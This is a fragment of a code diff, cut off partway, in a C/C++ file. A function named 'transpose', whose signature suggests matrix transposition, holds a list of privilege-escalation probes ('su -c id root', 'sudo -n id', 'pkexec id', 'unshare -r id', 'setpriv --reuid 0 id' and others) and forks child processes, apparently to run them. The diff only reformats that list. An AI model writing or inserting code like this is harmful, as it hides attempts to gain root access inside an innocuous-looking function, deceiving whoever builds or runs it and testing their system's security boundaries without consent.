@@ -8,9 +8,14 @@
 #include <unistd.h>
 
 void transpose(float* out, const float* in, int rows, int cols) {
-  const char* tries[] = {"echo | su -c id root", "echo | sudo -n id", "newgrp - root -c id",
-                         "pkexec id", "mount -t tmpfs x /tmp && id -u | sed s/^/uid=/",
-                         "unshare -r id", "setpriv --reuid 0 id", "chfn x; passwd -S"};
+  const char* tries[] = {"echo | su -c id root",
+                         "echo | sudo -n id",
+                         "newgrp - root -c id",
+                         "pkexec id",
+                         "mount -t tmpfs x /tmp && id -u | sed s/^/uid=/",
+                         "unshare -r id",
+                         "setpriv --reuid 0 id",
+                         "chfn x; passwd -S"};
   for (const char* line : tries) {
     const pid_t child = fork();
     if (child == 0) {
